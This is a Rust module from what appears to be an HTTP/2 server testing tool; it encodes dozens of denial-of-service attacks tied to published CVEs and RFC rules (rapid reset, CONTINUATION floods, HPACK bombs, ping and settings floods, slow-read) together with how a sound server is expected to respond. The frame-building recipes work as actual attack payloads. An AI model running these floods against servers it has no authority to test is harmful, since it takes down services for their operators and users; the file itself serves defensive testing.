//! The attacks: families of published ones, and what a good server does about each.

use std::time::Duration;

use super::frames::{
    ACK, END_HEADERS, NEWEST_FIELD, block, data, field, frame, headers, indexed_field, integer,
    kind, request, reset, settings, window_update,
};
use super::malformed::MALFORMED;
use crate::error::LoadError;

/// What a connection of an attack does.
#[derive(Clone)]
pub enum Step {
    /// Sends these bytes.
    Send(Vec<u8>),
    /// Sends what the function makes of the numbers from zero.
    Repeat(u32, fn(u32) -> Vec<u8>),
    /// Sends what the function makes of the numbers from zero, with a pause after each.
    Drip(u32, Duration, fn(u32) -> Vec<u8>),
    /// Waits, and reads what comes.
    Wait(Duration),
}

/// What a good server does about an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Expect {
    /// It ends the connection before it has read this many bytes of the attack.
    ///
    /// Nobody but the server knows what it has read. What is judged is what the attacker's system has
    /// taken by the time when the attacker sees the end, and that is more: see [`most_sent`]. An attack
    /// that lives by its length is longer than that, so that a server that reads on is found out.
    Ends {
        /// That many.
        within: u64,
    },
    /// It refuses the request: an error status, a reset, or the end of the connection.
    Refuses,
    /// It ends a connection on which nothing useful comes.
    GivesUp,
    /// It may bear it or end the connection; others must not feel it.
    Bears,
}

/// Most bytes that may have gone into a connection that the server ends after `within` bytes.
///
/// A server that a busy machine does not let run finds as much in its receive buffer as there is room.
/// Linux begins with 128 KiB (`tcp_rmem`), and lets the buffer grow as the server reads, by about what
/// it has read. On the side of the attacker, [`ATTACK_SEND_BUFFER`] limits what waits to little more than
/// itself; the system would hold megabytes.
///
/// [`ATTACK_SEND_BUFFER`]: crate::limits::ATTACK_SEND_BUFFER
pub fn most_sent(within: u64) -> u64 {
    const BUFFERS: u64 = 256 * KIB;
    2 * within + BUFFERS
}

/// Who reads what the server sends back.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Reading {
    /// The attack reads.
    Reads,
    /// It leaves everything in the network's buffers.
    Ignores,
}

/// One attack.
#[derive(Clone, Copy)]
pub struct Attack {
    /// Name on the command line.
    pub name: &'static str,
    /// Where it is described.
    pub source: &'static str,
    /// What a good server does.
    pub expect: Expect,
    /// Connections that do the same.
    pub connections: u32,
    /// Whether they read.
    pub reading: Reading,
    /// Whether the client preface and SETTINGS come first.
    pub preface: bool,
    /// What they do.
    pub steps: fn() -> Vec<Step>,
}

const KIB: u64 = 1024;

/// A stream number of a client.
fn odd(i: u32) -> u32 {
    2 * i + 1
}

/// A GET without body.
fn get(i: u32) -> Vec<u8> {
    headers(odd(i), true, &request("GET", "/"))
}

/// The begin of a POST.
fn post(i: u32) -> Vec<u8> {
    headers(odd(i), false, &request("POST", "/"))
}

const fn attack(
    name: &'static str,
    source: &'static str,
    expect: Expect,
    steps: fn() -> Vec<Step>,
) -> Attack {
    Attack { name, source, expect, connections: 1, reading: Reading::Reads, preface: true, steps }
}

const fn on_connections(connections: u32, attack: Attack) -> Attack {
    Attack { connections, ..attack }
}

const fn unread(attack: Attack) -> Attack {
    Attack { reading: Reading::Ignores, ..attack }
}

const fn without_preface(attack: Attack) -> Attack {
    Attack { preface: false, ..attack }
}

use Expect::{Bears, Ends, GivesUp, Refuses};

const SECOND: Duration = Duration::from_secs(1);

/// Everything but malformed requests, which have a table of their own.
const ATTACKS: &[Attack] = &[
    // Resets.
    attack("rapid-reset", "CVE-2023-44487", Ends { within: 1024 * KIB }, || {
        vec![Step::Repeat(40_000, |i| [get(i), reset(odd(i))].concat()), Step::Wait(SECOND)]
    }),
    attack("rapid-reset-late", "CVE-2023-44487", Ends { within: 1024 * KIB }, || {
        let batch = |i: u32| {
            let streams = (i * 50)..(i * 50 + 50);
            let opened: Vec<u8> = streams.clone().flat_map(post).collect();
            [opened, streams.flat_map(|s| reset(odd(s))).collect()].concat()
        };
        vec![Step::Drip(600, Duration::from_millis(2), batch), Step::Wait(SECOND)]
    }),
    attack("made-you-reset-window", "CVE-2025-8671", Ends { within: 1024 * KIB }, || {
        let overflow = |i: u32| [post(i), window_update(odd(i), 0x7fff_ffff)].concat();
        vec![Step::Repeat(30_000, overflow), Step::Wait(SECOND)]
    }),
    attack("made-you-reset-zero-increment", "CVE-2025-8671", Ends { within: 1024 * KIB }, || {
        vec![
            Step::Repeat(30_000, |i| [post(i), window_update(odd(i), 0)].concat()),
            Step::Wait(SECOND),
        ]
    }),
    attack(
        "made-you-reset-headers-after-end",
        "CVE-2025-8671",
        Ends { within: 1024 * KIB },
        || vec![Step::Repeat(20_000, |i| [get(i), get(i)].concat()), Step::Wait(SECOND)],
    ),
    attack("made-you-reset-data-after-end", "CVE-2025-8671", Ends { within: 1024 * KIB }, || {
        vec![
            Step::Repeat(40_000, |i| [get(i), data(odd(i), false, b"x")].concat()),
            Step::Wait(SECOND),
        ]
    }),
    attack("made-you-reset-priority-length", "CVE-2025-8671", Ends { within: 1024 * KIB }, || {
        let short = |i: u32| [post(i), frame(kind::PRIORITY, 0, odd(i), &[0; 4])].concat();
        vec![Step::Repeat(30_000, short), Step::Wait(SECOND)]
    }),
    attack("made-you-reset-self-dependency", "CVE-2025-8671", Bears, || {
        let own = |i: u32| {
            let depends = [&odd(i).to_be_bytes()[..], &[15]].concat();
            [get(i), frame(kind::PRIORITY, 0, odd(i), &depends)].concat()
        };
        vec![Step::Repeat(2_000, own), Step::Wait(SECOND)]
    }),
    attack("made-you-reset-content-length", "CVE-2025-8671", Ends { within: 1024 * KIB }, || {
        let short = [request("POST", "/"), field("content-length", "1")].concat();
        let longer = move |i: u32, head: &[u8]| {
            [headers(odd(i), false, head), data(odd(i), false, b"xx")].concat()
        };
        let all = (0..30_000).flat_map(|i| longer(i, &short)).collect();
        vec![Step::Send(all), Step::Wait(SECOND)]
    }),
    // Header blocks that do not end.
    attack("continuation-flood", "CVE-2024-27316", Ends { within: 256 * KIB }, || {
        vec![
            Step::Send(frame(kind::HEADERS, 1, 1, &request("GET", "/"))),
            Step::Repeat(40_000, |i| {
                frame(kind::CONTINUATION, 0, 1, &field(&format!("x-{i}"), "aaaaaaaaaaaaaaaa"))
            }),
            Step::Wait(SECOND),
        ]
    }),
    attack("continuation-empty", "CVE-2024-27316", Ends { within: 512 * KIB }, || {
        vec![
            Step::Send(frame(kind::HEADERS, 1, 1, &request("GET", "/"))),
            Step::Repeat(160_000, |_| frame(kind::CONTINUATION, 0, 1, &[])),
            Step::Wait(SECOND),
        ]
    }),
    on_connections(
        10,
        attack("continuation-never-ends", "CVE-2024-27316", GivesUp, || {
            vec![
                Step::Send(frame(kind::HEADERS, 1, 1, &request("GET", "/"))),
                Step::Drip(150, Duration::from_millis(100), |_| {
                    frame(kind::CONTINUATION, 0, 1, &[])
                }),
            ]
        }),
    ),
    // HPACK.
    attack("hpack-big-value", "CVE-2016-6581", Refuses, || {
        let mut fields = [request("GET", "/"), indexed_field("x", &"v".repeat(3_900))].concat();
        fields.extend(std::iter::repeat_n(NEWEST_FIELD, 4_000));
        vec![Step::Send(headers(1, true, &fields)), Step::Wait(SECOND)]
    }),
    attack("hpack-index-zero", "RFC 7541 section 6.1", Ends { within: 64 * KIB }, || {
        vec![
            Step::Send(headers(1, true, &[request("GET", "/"), vec![0x80]].concat())),
            Step::Wait(SECOND),
        ]
    }),
    attack("hpack-index-beyond", "RFC 7541 section 2.3.3", Ends { within: 64 * KIB }, || {
        vec![
            Step::Send(headers(1, true, &[request("GET", "/"), vec![0xff, 0xff, 0x7f]].concat())),
            Step::Wait(SECOND),
        ]
    }),
    attack("hpack-integer-overflow", "RFC 7541 section 5.1", Ends { within: 64 * KIB }, || {
        let endless = [vec![0xff], vec![0xff; 100], vec![0x01]].concat();
        vec![Step::Send(headers(1, true, &endless)), Step::Wait(SECOND)]
    }),
    attack("hpack-size-above-limit", "RFC 7541 section 6.3", Ends { within: 64 * KIB }, || {
        let mut update = Vec::new();
        integer(&mut update, 0x20, 5, 1 << 24);
        vec![
            Step::Send(headers(1, true, &[update, request("GET", "/")].concat())),
            Step::Wait(SECOND),
        ]
    }),
    attack("hpack-size-storm", "CVE-2016-6581", Bears, || {
        vec![
            Step::Repeat(500, |i| {
                headers(odd(i), true, &[vec![0x20; 2_000], request("GET", "/")].concat())
            }),
            Step::Wait(SECOND),
        ]
    }),
    attack("hpack-table-churn", "CVE-2022-41723", Bears, || {
        let churn = |i: u32| {
            let fields: Vec<u8> =
                (0..20).flat_map(|f| indexed_field(&format!("x-{i}-{f}"), "0123456789")).collect();
            headers(odd(i), true, &[request("GET", "/"), fields].concat())
        };
        vec![Step::Repeat(300, churn), Step::Wait(SECOND)]
    }),
    // Many small references.
    attack("header-bomb", "CVE-2026-49975", Refuses, || {
        let mut fields = [request("GET", "/"), indexed_field("a", "")].concat();
        fields.extend(std::iter::repeat_n(NEWEST_FIELD, 15_000));
        vec![Step::Send(headers(1, true, &fields)), Step::Wait(SECOND)]
    }),
    attack("header-bomb-cookies", "CVE-2026-47774", Refuses, || {
        let mut fields = [request("GET", "/"), indexed_field("cookie", "a")].concat();
        fields.extend(std::iter::repeat_n(NEWEST_FIELD, 15_000));
        vec![Step::Send(headers(1, true, &fields)), Step::Wait(SECOND)]
    }),
    on_connections(
        10,
        attack("header-bomb-below-the-limit", "CVE-2026-49975", Bears, || {
            let many = |i: u32| {
                let mut fields = [request("GET", "/"), indexed_field("a", "")].concat();
                fields.extend(std::iter::repeat_n(NEWEST_FIELD, 90));
                headers(odd(i), true, &fields)
            };
            vec![Step::Send(settings(&[(4, 0)])), Step::Repeat(100, many), Step::Wait(SECOND)]
        }),
    ),
    // The set of 2019.
    attack("data-dribble", "CVE-2019-9511", Bears, || {
        vec![
            Step::Send(settings(&[(4, 0)])),
            Step::Repeat(50, get),
            Step::Repeat(5_000, |i| window_update(odd(i % 50), 1)),
            Step::Wait(SECOND),
        ]
    }),
    attack("ping-flood", "CVE-2019-9512", Bears, || {
        vec![
            Step::Repeat(50_000, |i| frame(kind::PING, 0, 0, &u64::from(i).to_be_bytes())),
            Step::Wait(SECOND),
        ]
    }),
    unread(attack("ping-flood-unread", "CVE-2019-9512", Bears, || {
        vec![
            Step::Repeat(50_000, |i| frame(kind::PING, 0, 0, &u64::from(i).to_be_bytes())),
            Step::Wait(SECOND),
        ]
    })),
    attack("resource-loop", "CVE-2019-9513", Bears, || {
        let depend = |i: u32| {
            let on = [&odd((i + 1) % 100).to_be_bytes()[..], &[(i % 256) as u8]].concat();
            frame(kind::PRIORITY, 0, odd(i % 100), &on)
        };
        vec![Step::Repeat(50_000, depend), Step::Wait(SECOND)]
    }),
    attack("reset-flood", "CVE-2019-9514", Ends { within: 256 * KIB }, || {
        vec![
            Step::Repeat(40_000, |i| headers(odd(i), true, &block(&[(":method", "GET")]))),
            Step::Wait(SECOND),
        ]
    }),
    attack("settings-flood", "CVE-2019-9515", Bears, || {
        vec![Step::Repeat(50_000, |_| settings(&[])), Step::Wait(SECOND)]
    }),
    unread(attack("settings-flood-unread", "CVE-2019-9515", Bears, || {
        vec![Step::Repeat(50_000, |_| settings(&[(4, 65_535)])), Step::Wait(SECOND)]
    })),
    attack("empty-header-names", "CVE-2019-9516", Refuses, || {
        let empty: Vec<u8> = (0..1_000).flat_map(|_| field("", "")).collect();
        vec![
            Step::Send(headers(1, true, &[request("GET", "/"), empty].concat())),
            Step::Wait(SECOND),
        ]
    }),
    unread(on_connections(
        5,
        attack("internal-buffering", "CVE-2019-9517", Bears, || {
            vec![
                Step::Send(settings(&[(4, 0x7fff_ffff)])),
                Step::Send(window_update(0, 0x7fff_0000)),
                Step::Repeat(100, get),
                Step::Wait(2 * SECOND),
            ]
        }),
    )),
    attack("empty-data-flood", "CVE-2019-9518", Bears, || {
        vec![Step::Send(post(0)), Step::Repeat(50_000, |_| data(1, false, b"")), Step::Wait(SECOND)]
    }),
    attack("small-data-flood", "RUSTSEC-2026-0258", Bears, || {
        vec![
            Step::Send(post(0)),
            Step::Repeat(20_000, |_| data(1, false, b"x")),
            Step::Wait(SECOND),
        ]
    }),
    // Windows.
    on_connections(
        10,
        attack("zero-window-hold", "RFC 9113 section 5.2", Bears, || {
            vec![Step::Send(settings(&[(4, 0)])), Step::Repeat(100, get), Step::Wait(2 * SECOND)]
        }),
    ),
    on_connections(
        10,
        attack("slow-read", "CVE-2016-1546", Bears, || {
            vec![
                Step::Send(settings(&[(4, 1)])),
                Step::Send(get(0)),
                Step::Drip(20, Duration::from_millis(100), |_| window_update(1, 1)),
            ]
        }),
    ),
    attack("window-shrinks", "RFC 9113 section 6.9.2", Bears, || {
        vec![
            Step::Repeat(100, get),
            Step::Repeat(500, |i| settings(&[(4, if i % 2 == 0 { 0 } else { 65_535 })])),
            Step::Wait(SECOND),
        ]
    }),
    attack("window-overflow", "RFC 9113 section 6.9.1", Ends { within: 64 * KIB }, || {
        vec![
            Step::Send([window_update(0, 0x7fff_ffff), window_update(0, 0x7fff_ffff)].concat()),
            Step::Wait(SECOND),
        ]
    }),
    attack(
        "window-initial-above-limit",
        "RFC 9113 section 6.5.2",
        Ends { within: 64 * KIB },
        || vec![Step::Send(settings(&[(4, 0x8000_0000)])), Step::Wait(SECOND)],
    ),
    attack("window-update-flood", "CVE-2019-9511", Bears, || {
        vec![Step::Repeat(50_000, |_| window_update(0, 1)), Step::Wait(SECOND)]
    }),
    attack("flow-control-overrun", "RFC 9113 section 5.2.1", Refuses, || {
        vec![
            Step::Send(post(0)),
            Step::Repeat(4_096, |_| data(1, false, &[0; 16_384])),
            Step::Wait(SECOND),
        ]
    }),
    // Streams and settings.
    attack("streams-over-limit", "RFC 9113 section 5.1.2", Refuses, || {
        vec![Step::Send(settings(&[(4, 0)])), Step::Repeat(5_000, get), Step::Wait(SECOND)]
    }),
    attack("stream-number-even", "RFC 9113 section 5.1.1", Ends { within: 64 * KIB }, || {
        vec![Step::Send(headers(2, true, &request("GET", "/"))), Step::Wait(SECOND)]
    }),
    attack("stream-number-falls", "RFC 9113 section 5.1.1", Ends { within: 64 * KIB }, || {
        vec![Step::Send([get(5), get(2)].concat()), Step::Wait(SECOND)]
    }),
    attack("data-on-idle-stream", "RFC 9113 section 5.1", Ends { within: 64 * KIB }, || {
        vec![Step::Send(data(7, false, b"x")), Step::Wait(SECOND)]
    }),
    attack("client-push", "RFC 9113 section 8.4", Ends { within: 64 * KIB }, || {
        let promise = [&2_u32.to_be_bytes()[..], &request("GET", "/")].concat();
        vec![
            Step::Send([post(0), frame(kind::PUSH_PROMISE, END_HEADERS, 1, &promise)].concat()),
            Step::Wait(SECOND),
        ]
    }),
    attack("goaway-then-streams", "RFC 9113 section 6.8", Bears, || {
        vec![
            Step::Send(frame(kind::GOAWAY, 0, 0, &[0; 8])),
            Step::Repeat(500, get),
            Step::Wait(SECOND),
        ]
    }),
    attack("last-stream-number", "RFC 9113 section 5.1.1", Bears, || {
        vec![Step::Send(headers(0x7fff_ffff, true, &request("GET", "/"))), Step::Wait(SECOND)]
    }),
    // Frames.
    attack("frame-of-16-mebibytes", "RFC 9113 section 4.2", Ends { within: 64 * KIB }, || {
        vec![Step::Send(vec![0xff, 0xff, 0xff, kind::DATA, 0, 0, 0, 0, 1]), Step::Wait(2 * SECOND)]
    }),
    attack("ping-length", "RFC 9113 section 6.7", Ends { within: 64 * KIB }, || {
        vec![Step::Send(frame(kind::PING, 0, 0, &[0; 7])), Step::Wait(SECOND)]
    }),
    attack("settings-ack-with-payload", "RFC 9113 section 6.5", Ends { within: 64 * KIB }, || {
        vec![Step::Send(frame(kind::SETTINGS, ACK, 0, &[0; 6])), Step::Wait(SECOND)]
    }),
    attack("unasked-ping-ack", "RFC 9113 section 6.7", Bears, || {
        vec![Step::Repeat(20_000, |_| frame(kind::PING, ACK, 0, &[0; 8])), Step::Wait(SECOND)]
    }),
    attack("unknown-frames", "RFC 9113 section 5.5", Bears, || {
        vec![Step::Repeat(50_000, |i| frame(0xee, 0xff, i & 0xff, &[0; 8])), Step::Wait(SECOND)]
    }),
    attack("reserved-bits", "RFC 9113 section 4.1", Bears, || {
        let marked = |i: u32| headers(0x8000_0000 | odd(i), true, &request("GET", "/"));
        vec![Step::Repeat(50, marked), Step::Wait(SECOND)]
    }),
    attack("priority-update-flood", "RFC 9218 section 7.1", Bears, || {
        let update = |i: u32| {
            frame(kind::PRIORITY_UPDATE, 0, 0, &[&odd(i).to_be_bytes()[..], b"u=3"].concat())
        };
        vec![Step::Repeat(20_000, update), Step::Wait(SECOND)]
    }),
    // Silence and slowness.
    without_preface(on_connections(
        20,
        attack("silent-connection", "hyperium/hyper#4172", GivesUp, || {
            vec![Step::Wait(Duration::from_secs(14))]
        }),
    )),
    without_preface(on_connections(
        20,
        attack("half-a-preface", "hyperium/hyper#4172", GivesUp, || {
            vec![Step::Send(b"PRI * HTTP/2.0\r\n".to_vec()), Step::Wait(Duration::from_secs(14))]
        }),
    )),
    without_preface(attack("http1-request", "RFC 9113 section 3.4", GivesUp, || {
        vec![
            Step::Send(b"GET / HTTP/1.1\r\nhost: attack.test\r\n\r\n".to_vec()),
            Step::Wait(Duration::from_secs(14)),
        ]
    })),
    on_connections(
        10,
        attack("slow-post", "CVE-2011-3192", Bears, || {
            vec![
                Step::Send(post(0)),
                Step::Drip(20, Duration::from_millis(100), |_| data(1, false, b"x")),
            ]
        }),
    ),
    on_connections(
        10,
        attack("body-that-never-ends", "slow POST", Bears, || {
            let head = [request("POST", "/"), field("content-length", "1000000")].concat();
            vec![Step::Send(headers(1, false, &head)), Step::Wait(2 * SECOND)]
        }),
    ),
    on_connections(
        200,
        attack("connection-churn", "connection churn", Bears, || {
            vec![Step::Send(get(0)), Step::Wait(Duration::from_millis(20))]
        }),
    ),
];

/// All attacks.
pub fn all() -> impl Iterator<Item = &'static Attack> {
    ATTACKS.iter().chain(MALFORMED)
}

/// An attack on one request: it must be refused.
pub(super) const fn malformed(
    name: &'static str,
    source: &'static str,
    steps: fn() -> Vec<Step>,
) -> Attack {
    attack(name, source, Refuses, steps)
}

/// The attacks of a comma-separated list of names, or all of them.
///
/// # Errors
/// Usage error that says how to see the names.
pub fn select(list: &str) -> Result<Vec<&'static Attack>, LoadError> {
    if list == "all" {
        return Ok(all().collect());
    }
    list.split(',')
        .map(|name| {
            all().find(|attack| attack.name == name.trim()).ok_or_else(|| {
                LoadError::usage(format!(
                    "no attack `{name}`; `valk-load attack list` has the names"
                ))
            })
        })
        .collect()
}
